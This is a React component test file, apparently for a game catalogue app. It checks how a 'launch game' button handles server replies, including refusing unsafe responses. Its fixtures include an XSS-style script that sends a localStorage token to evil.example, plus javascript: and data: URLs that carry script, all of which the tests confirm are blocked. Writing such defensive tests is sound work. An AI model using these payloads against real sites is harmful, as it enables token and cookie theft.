import { act, screen, waitFor, within } from '@testing-library/react'
import userEvent from '@testing-library/user-event'
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest'
import { envelope, type Reply } from '../test/utils.tsx'
import { Catalogue } from './Catalogue.tsx'
import { game, renderCatalogue, stubAssign, USER } from './catalogue.fixtures.ts'

const LUCKY = game(7, 'Lucky Lotus Reels', { game_code: 'GR-LUCKY', product_code: 1001, game_type: 'SLOT' })
const hot = { 'GET /hot_game_lists': { status: 200, body: envelope([LUCKY, game(8)]) } }

beforeEach(() => sessionStorage.clear())
afterEach(() => {
  vi.unstubAllGlobals()
  vi.restoreAllMocks()
})

/** The hot games, signed in, with the launch answered by `reply`. */
async function hotGames(reply: Reply | ((init: RequestInit) => Reply | Promise<Reply>), signIn = true) {
  const view = renderCatalogue(<Catalogue />, { ...hot, 'POST /seamless/launch-game': reply })
  if (signIn) act(() => view.runtime.session.acceptSignIn({ user: USER, token: 'tok' }))
  act(() => void view.runtime.router.navigate('/?type=hot'))
  const button = await screen.findByRole('button', { name: 'Play Lucky Lotus Reels' })
  return { ...view, button }
}

/** A tab `window.open` hands back; its document records anything written into it. */
function fakeTab() {
  const doc = { open: vi.fn(), write: vi.fn(), writeln: vi.fn(), close: vi.fn() }
  return { opener: {} as unknown, document: doc, close: vi.fn() }
}

const LAUNCH_PAGE = 'https://api.example/launch/TICKET?lang=en'

describe('launching a game', () => {
  it('disables that game with a spinner while it opens, and goes to the address', async () => {
    const assign = stubAssign()
    let release: (reply: Reply) => void = () => undefined
    const { button, fetch } = await hotGames(() => new Promise((resolve) => (release = resolve)))
    await userEvent.click(button)

    const busy = screen.getByRole('button', { name: 'Opening Lucky Lotus Reels…' })
    expect(busy).toHaveProperty('disabled', true)
    expect(busy.getAttribute('aria-busy')).toBe('true')
    expect(screen.getByRole('button', { name: 'Play Game 8' })).toHaveProperty('disabled', false)
    const sent = fetch.mock.calls.find(([url]) => String(url).endsWith('/seamless/launch-game'))
    expect(JSON.parse(String(sent?.[1]?.body))).toEqual({
      game_code: 'GR-LUCKY',
      product_code: 1001,
      game_type: 'SLOT',
    })

    await act(async () =>
      release({
        status: 200,
        body: { code: 200, message: 'ok', url: 'https://games.example/play/t1?lang=en' },
      }),
    )
    expect(assign).toHaveBeenCalledWith('https://games.example/play/t1?lang=en')
    expect(screen.getByRole('button', { name: 'Play Lucky Lotus Reels' })).toHaveProperty('disabled', false)
    expect(screen.queryByRole('alert')).toBeNull()
  })

  it("sends the session's language", async () => {
    stubAssign()
    const { runtime, fetch } = await hotGames({
      status: 200,
      body: { code: 200, message: 'ok', url: 'https://games.example/play/t1' },
    })
    act(() => runtime.session.setLanguage('mm'))
    await userEvent.click(await screen.findByRole('button', { name: 'Lucky Lotus Reels ကစားရန်' }))
    const sent = fetch.mock.calls.find(([url]) => String(url).endsWith('/seamless/launch-game'))
    expect(new Headers(sent?.[1]?.headers).get('Accept-Language')).toBe('my')
  })

  it("opens a launch page's address in a new tab that cannot reach back, and writes nothing", async () => {
    const assign = stubAssign()
    const tab = fakeTab()
    const open = vi.spyOn(window, 'open').mockReturnValue(tab as unknown as Window)
    const { button } = await hotGames({
      status: 200,
      body: { code: 200, message: 'ok', content_url: LAUNCH_PAGE },
    })
    await userEvent.click(button)
    await waitFor(() => expect(open).toHaveBeenCalledWith(LAUNCH_PAGE, '_blank'))
    expect(open).toHaveBeenCalledTimes(1)
    expect(tab.opener).toBeNull()
    expect(tab.document.open).not.toHaveBeenCalled()
    expect(tab.document.write).not.toHaveBeenCalled()
    expect(assign).not.toHaveBeenCalled()
    expect(screen.queryByRole('alert')).toBeNull()
    expect(screen.getByRole('button', { name: 'Play Lucky Lotus Reels' })).toHaveProperty('disabled', false)
  })

  it('refuses a raw page, opening and writing nothing, and says why in the console once', async () => {
    const assign = stubAssign()
    const open = vi.spyOn(window, 'open')
    const warn = vi.spyOn(console, 'warn').mockImplementation(() => undefined)
    const html = '<!doctype html><script>fetch("https://evil.example/?t=" + localStorage.token)</script>'
    const { button } = await hotGames({ status: 200, body: { code: 200, message: 'ok', content: html } })
    await userEvent.click(button)
    expect((await screen.findByRole('alert')).textContent).toBe('Failed to launch game.')
    await userEvent.click(screen.getByRole('button', { name: 'Play Lucky Lotus Reels' }))
    await waitFor(() =>
      expect(screen.getByRole('button', { name: 'Play Lucky Lotus Reels' })).toHaveProperty(
        'disabled',
        false,
      ),
    )
    expect((await screen.findByRole('alert')).textContent).toBe('Failed to launch game.')
    expect(open).not.toHaveBeenCalled()
    expect(assign).not.toHaveBeenCalled()
    expect(warn).toHaveBeenCalledTimes(1)
    expect(String(warn.mock.calls[0]?.[0])).toMatch(/content_url/)
  })

  it.each([
    [
      'a blocked window',
      { status: 200, body: { code: 200, message: 'ok', content_url: LAUNCH_PAGE } },
      'Popup blocked. Please allow popups.',
    ],
    [
      'a javascript: launch page address',
      { status: 200, body: { code: 200, message: 'ok', content_url: 'javascript:alert(1)' } },
      'Failed to launch game.',
    ],
    [
      'a refusal with a message',
      { status: 200, body: { code: 404, message: 'Game not found.' } },
      'Game not found.',
    ],
    ['a refusal without one', { status: 500, body: {} }, 'Failed to launch game.'],
    [
      'a 200 with neither, and a message',
      { status: 200, body: { code: 200, message: 'Maintenance' } },
      'Maintenance',
    ],
    [
      'a 200 with neither, and no message',
      { status: 200, body: { code: 200 } },
      'Launch failed: No URL or content.',
    ],
    [
      'a javascript: address',
      { status: 200, body: { code: 200, message: 'ok', url: 'javascript:alert(document.cookie)' } },
      'Failed to launch game.',
    ],
    [
      'a data: address',
      { status: 200, body: { code: 200, message: 'ok', url: 'data:text/html,<script>alert(1)</script>' } },
      'Failed to launch game.',
    ],
    ['no reply', 'network-error' as const, 'Network error. Please try again.'],
  ] as const)('shows %s in the red box above the grid', async (_, reply, text) => {
    const assign = stubAssign()
    vi.spyOn(window, 'open').mockReturnValue(null)
    const { button } = await hotGames(reply as Reply)
    await userEvent.click(button)
    const alert = await screen.findByRole('alert')
    expect(alert.textContent).toBe(text)
    const grid = screen
      .getAllByRole('list')
      .find((list) => within(list).queryAllByRole('button', { name: /^Play / }).length > 0)
    expect(alert.compareDocumentPosition(grid as Node) & Node.DOCUMENT_POSITION_FOLLOWING).toBeTruthy()
    expect(assign).not.toHaveBeenCalled()
    expect(screen.getByRole('button', { name: 'Play Lucky Lotus Reels' })).toHaveProperty('disabled', false)
  })

  it('clears the last failure on the next try', async () => {
    stubAssign()
    let calls = 0
    const { button } = await hotGames(() =>
      ++calls === 1
        ? { status: 200, body: { code: 500, message: 'Try later' } }
        : { status: 200, body: { code: 200, message: 'ok', url: 'https://games.example/x' } },
    )
    await userEvent.click(button)
    expect((await screen.findByRole('alert')).textContent).toBe('Try later')
    await userEvent.click(screen.getByRole('button', { name: 'Play Lucky Lotus Reels' }))
    expect(screen.queryByRole('alert')).toBeNull()
  })

  it('opens the login dialog for a signed-out player, and launches nothing', async () => {
    stubAssign()
    const { button, fetch } = await hotGames(
      { status: 200, body: { code: 200, message: 'ok', url: 'https://games.example/x' } },
      false,
    )
    await userEvent.click(button)
    expect(await screen.findByRole('dialog', { name: 'Login' })).toBeTruthy()
    expect(fetch.mock.calls.some(([url]) => String(url).endsWith('/seamless/launch-game'))).toBe(false)
  })

  it('opens the game once the player has signed in through that dialog', async () => {
    const assign = stubAssign()
    const view = renderCatalogue(<Catalogue />, {
      ...hot,
      'POST /login': {
        status: 200,
        body: envelope({ user: USER, token: 'tok' }, 'User login successfully.'),
      },
      'POST /seamless/launch-game': {
        status: 200,
        body: { code: 200, message: 'ok', url: 'https://games.example/x' },
      },
    })
    act(() => void view.runtime.router.navigate('/?type=hot'))
    await userEvent.click(await screen.findByRole('button', { name: 'Play Lucky Lotus Reels' }))
    const dialog = within(await screen.findByRole('dialog', { name: 'Login' }))
    await userEvent.type(dialog.getByLabelText('Username'), 'P12345678')
    await userEvent.type(dialog.getByLabelText('Password'), 'secret')
    await userEvent.click(dialog.getByRole('button', { name: 'Login' }))
    await waitFor(() => expect(assign).toHaveBeenCalledWith('https://games.example/x'))
  })
})
